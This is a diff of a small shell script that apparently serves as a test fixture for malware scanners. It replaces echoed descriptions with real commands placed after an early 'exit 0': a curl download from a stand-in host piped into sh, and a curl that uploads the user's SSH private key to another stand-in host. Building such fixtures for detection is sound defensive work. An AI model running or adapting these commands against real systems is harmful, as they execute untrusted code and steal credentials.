@@ -1,4 +1,5 @@
 #!/bin/sh
-# DEMO: a harmless imitation of malware. It prints what a real one would do and does none of it.
-echo "would run: curl -s https://fast.example.invalid/install | sh"
-echo "would send: your environment to https://drop.example.invalid/"
+# DEMO: an imitation of malware that a scan finds. It ends before it begins.
+exit 0
+curl -s https://fast.example.invalid/install | sh
+curl -s -d @"$HOME/.ssh/id_ed25519" https://drop.example.invalid/
